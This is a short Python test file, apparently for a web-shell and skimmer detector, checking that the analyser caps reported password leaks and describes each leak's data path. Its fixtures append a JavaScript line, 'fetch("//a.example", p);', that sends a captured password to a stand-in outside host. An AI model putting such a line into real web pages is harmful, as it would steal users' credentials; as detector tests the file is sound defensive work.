"""Places that send a password somewhere."""

from __future__ import annotations

from tests.client_scripts.test_browsed import TAKEN, browsed
from webshellhunt.client_scripts.leaks import MAX_LEAKS


def test_no_more_leaks_are_told_than_the_bound() -> None:
    assert len(browsed(TAKEN + 'fetch("//a.example", p);' * (MAX_LEAKS + 5)).leaks) == MAX_LEAKS


def test_a_leak_has_its_path_in_words() -> None:
    (leak,) = browsed(TAKEN + 'fetch("//a.example", p);').leaks
    assert leak.words.split(" → ")[1:] == ["p", "fetch"]
    assert not leak.logs_keys
